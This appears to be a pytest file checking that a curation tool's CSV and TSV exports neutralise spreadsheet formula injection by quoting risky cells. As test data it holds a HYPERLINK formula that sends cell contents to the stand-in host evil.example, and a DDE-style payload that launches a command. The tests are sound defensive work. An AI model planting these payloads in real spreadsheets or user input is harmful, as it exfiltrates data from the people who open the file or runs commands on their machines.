"""Formula injection (issue 35 item 3): every CSV/TSV the project writes neutralises cells that
a spreadsheet would run as a formula (OWASP, CSV Injection)."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest
from app_helpers import build_app_workspace

from curation.access.users import Role, User
from curation.cli.main import main
from curation.evaluation.reporting import export_labels_bytes
from curation.search.suggestions import add_suggestion, list_suggestions, suggestions_csv
from curation.store.label_files import export_labels
from curation.store.labels import Labels
from curation.store.relations import Relations
from curation.store.workspace import Workspace
from kb_sources.spreadsheet import SafeDictWriter, safe_cell, safe_frame

ATTACK = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
CURATOR = User("cur", Role.CURATOR)


@pytest.mark.parametrize(("value", "expected"), [
    (ATTACK, "'" + ATTACK),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\r=1+1"),
    ("-0.25", "-0.25"),          # a number stays a number
    ("+3", "+3"),
    ("-1e-3", "-1e-3"),
    ("plain note", "plain note"),
    ("a = b", "a = b"),          # only the first character matters
    ("", ""),
    (None, None),
    (-3, -3),
])
def test_safe_cell(value, expected):
    assert safe_cell(value) == expected


def test_safe_writer_and_frame_neutralise_every_text_cell():
    buffer = io.StringIO()
    writer = SafeDictWriter(buffer, fieldnames=["=h", "note", "score"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"=h": "x", "note": ATTACK, "score": -0.5})
    assert buffer.getvalue().splitlines()[0] == "'=h,note,score"
    (row,) = csv.DictReader(io.StringIO(buffer.getvalue()))
    assert row == {"'=h": "x", "note": "'" + ATTACK, "score": "-0.5"}
    frame = safe_frame(pd.DataFrame({"gene": ["@BRAF", "KRAS"], "n": [-1, 2]}))
    assert frame["gene"].tolist() == ["'@BRAF", "KRAS"] and frame["n"].tolist() == [-1, 2]


@pytest.fixture
def ws(tmp_path):
    with Workspace.open(build_app_workspace(tmp_path / "ws", bm25=False)) as w:
        yield w


def _label_with_attack(ws):
    return Labels(ws).record(user="cur", schema="PO", query_key="q1", query_text="-BRAF V600E",
                             doc_id="25265492", grade="partial", note=ATTACK)


@pytest.mark.parametrize("suffix", [".csv", ".tsv"])
def test_label_exports_neutralise_notes_and_query_texts(ws, tmp_path, suffix):
    label = _label_with_attack(ws)
    path = export_labels([label], tmp_path / f"labels{suffix}")
    delimiter = "\t" if suffix == ".tsv" else ","
    (row,) = csv.DictReader(path.open(encoding="utf-8"), delimiter=delimiter)
    assert row["note"] == "'" + ATTACK
    assert row["query_text"] == "'-BRAF V600E"
    assert row["grade"] == "partial" and row["doc_id"] == "25265492"


def test_review_page_label_download_is_neutralised(ws):
    label = _label_with_attack(ws)
    data = export_labels_bytes(ws, [label], "csv", User("boss", Role.ADMIN))
    (row,) = csv.DictReader(io.StringIO(data.decode("utf-8")))
    assert row["note"] == "'" + ATTACK


def test_cli_label_export_and_relations_tsv_are_neutralised(ws, tmp_path, capsys):
    _label_with_attack(ws)
    out = tmp_path / "cli.tsv"
    assert main(["labels", "export", str(out), "-w", str(ws.root), "--quiet"]) == 0
    (row,) = csv.DictReader(out.open(encoding="utf-8"), delimiter="\t")
    assert row["note"] == "'" + ATTACK
    capsys.readouterr()
    assert main(["relations", "-w", str(ws.root), "--schema", "PO", "--format", "tsv",
                 "--limit", "500"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert lines and not any(cell.startswith(("=", "+", "@"))
                             for line in lines for cell in line.split("\t"))


def test_suggestions_csv_neutralises_comments(ws):
    (partial,) = Relations(ws).partial("PO", {"gene": "BRAF"})
    add_suggestion(ws, user=CURATOR, schema=ws.schemas()["PO"], partial=partial, pmid="90100001",
                   answer="@Imatinib", answer_key="drug:imatinib", comment=ATTACK)
    (row,) = csv.DictReader(io.StringIO(suggestions_csv(list_suggestions(ws), ws.schemas())))
    assert row["comment"] == "'" + ATTACK and row["therapy"] == "'@Imatinib"
    assert row["pmid"] == "90100001"
